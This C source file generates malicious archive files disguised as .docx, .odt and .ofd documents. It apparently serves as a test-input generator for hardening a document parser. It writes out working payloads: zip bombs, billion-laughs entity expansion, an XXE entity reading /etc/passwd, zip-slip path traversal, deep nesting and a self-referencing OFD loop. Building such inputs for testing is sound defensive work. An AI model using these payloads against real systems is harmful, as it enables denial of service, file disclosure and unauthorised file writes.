/* make_zip.c - hostile zip containers: `make_zip NAME FILE` writes one, `make_zip` lists the names.
 * Each looks like a
 * .docx, .odt or .ofd at first sight. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zip.h>

static const char head[] = "<?xml version=\"1.0\"?>";

static int add(zip_t *archive, const char *name, const char *text, size_t length) {
  char *copy = malloc(length + 1);
  zip_source_t *source;

  if (!copy) return 1;
  memcpy(copy, text, length);
  source = zip_source_buffer(archive, copy, length, 1);
  return !source || zip_file_add(archive, name, source, ZIP_FL_OVERWRITE | ZIP_FL_ENC_UTF_8) < 0;
}

static int add_string(zip_t *archive, const char *name, const char *text) {
  return add(archive, name, text, strlen(text));
}

/* `count` times `unit` between `before` and `after`. */
static int add_repeated(zip_t *archive, const char *name, const char *before, const char *unit,
                        size_t count, const char *after) {
  size_t length = strlen(unit), total = strlen(before) + count * length + strlen(after);
  char *text = malloc(total + 1), *end;
  int wrong;

  if (!text) return 1;
  memcpy(text, before, strlen(before));
  end = text + strlen(before);
  for (size_t i = 0; i < count; i++, end += length) memcpy(end, unit, length);
  memcpy(end, after, strlen(after) + 1);
  wrong = add(archive, name, text, total);
  free(text);
  return wrong;
}

static const char word[] =
    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>";
static const char word_end[] = "</w:body></w:document>";
static const char types[] =
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

static int bomb(zip_t *archive) { /* 300 MB of spaces in a few hundred kilobytes */
  return add_string(archive, "[Content_Types].xml", types) ||
         add_repeated(archive, "word/document.xml", word, "                ", 300u * 65536,
                      word_end);
}

static int paragraphs(zip_t *archive) { /* right XML, very much of it */
  return add_string(archive, "[Content_Types].xml", types) ||
         add_repeated(archive, "word/document.xml", word, "<w:p><w:r><w:t>述职</w:t></w:r></w:p>",
                      1000000, word_end);
}

static int entities(zip_t *archive) {
  char text[8192] = "";
  size_t used = (size_t)snprintf(text, sizeof text,
                                 "%s<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaaaaaaaa\">", head);

  for (char c = 'b'; c <= 'z'; c++) {
    used += (size_t)snprintf(text + used, sizeof text - used, "<!ENTITY %c \"", c);
    for (int i = 0; i < 10; i++)
      used += (size_t)snprintf(text + used, sizeof text - used, "&%c;", c - 1);
    used += (size_t)snprintf(text + used, sizeof text - used, "\">");
  }
  snprintf(text + used, sizeof text - used, "]>%s<w:p><w:r><w:t>&z;</w:t></w:r></w:p>%s", word,
           word_end);
  return add_string(archive, "[Content_Types].xml", types) ||
         add_string(archive, "word/document.xml", text);
}

static int external(zip_t *archive) { /* an entity that is a file of the machine */
  static const char text[] =
      "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
      "<w:document "
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
      "<w:p><w:r><w:t>述职报告&x;</w:t></w:r></w:p></w:body></w:document>";
  return add_string(archive, "[Content_Types].xml", types) ||
         add_string(archive, "word/document.xml", text);
}

static int deep(zip_t *archive) {
  return add_string(archive, "[Content_Types].xml", types) ||
         add_repeated(archive, "word/document.xml", word, "<w:tbl><w:tr><w:tc>", 100000, "");
}

static int many_entries(zip_t *archive) {
  char name[64];
  int wrong = 0;

  for (int i = 0; i < 20000 && !wrong; i++) {
    snprintf(name, sizeof name, "word/part%d.xml", i);
    wrong = add_string(archive, name, "<a/>");
  }
  return wrong;
}

static int climbing(zip_t *archive) { /* a path out of the container */
  return add_string(archive, "../../../tmp/duizhao-was-here", "x") ||
         add_string(archive, "word/document.xml", "<a/>");
}

static int empty(zip_t *archive) {
  return add_string(archive, "readme", "");
}

static int odt_bomb(zip_t *archive) {
  return add_string(archive, "mimetype", "application/vnd.oasis.opendocument.text") ||
         add_repeated(archive, "content.xml", "<a>", "0000000000000000", 300u * 65536, "</a>");
}

/* OpenDocument can ask for any number of spaces in one short element. */
static int odt_spaces(zip_t *archive) {
  static const char before[] =
      "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
      "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text><"
      "text:p>述职";
  return add_string(archive, "mimetype", "application/vnd.oasis.opendocument.text") ||
         add_repeated(archive, "content.xml", before, "<text:s text:c=\"2000000000\"/>", 50,
                      "</text:p></office:text></office:body></office:document-content>");
}

static int ofd_loop(zip_t *archive) { /* a document that names itself as its page */
  static const char text[] =
      "<ofd:OFD "
      "xmlns:ofd=\"http://www.ofdspec.org/2016\"><ofd:DocBody><ofd:DocRoot>OFD.xml</ofd:DocRoot>"
      "</ofd:DocBody><ofd:Pages><ofd:Page BaseLoc=\"OFD.xml\"/></ofd:Pages></ofd:OFD>";
  return add_string(archive, "OFD.xml", text);
}

static const struct {
  const char *name;
  int (*fill)(zip_t *archive);
} inputs[] = {
    {"bomb.docx", bomb},         {"paragraphs.docx", paragraphs},
    {"entities.docx", entities}, {"external.docx", external},
    {"deep.docx", deep},         {"many.docx", many_entries},
    {"climbing.docx", climbing}, {"empty.docx", empty},
    {"bomb.odt", odt_bomb},      {"spaces.odt", odt_spaces},
    {"loop.ofd", ofd_loop},
};

int main(int argc, char **argv) {
  zip_t *archive;
  int code;

  for (size_t i = 0; i < sizeof inputs / sizeof *inputs; i++) {
    if (argc < 3) puts(inputs[i].name);
    if (argc < 3 || strcmp(argv[1], inputs[i].name)) continue;
    archive = zip_open(argv[2], ZIP_CREATE | ZIP_TRUNCATE, &code);
    if (!archive || inputs[i].fill(archive) || zip_close(archive)) return 1;
    return 0;
  }
  return argc > 2;
}
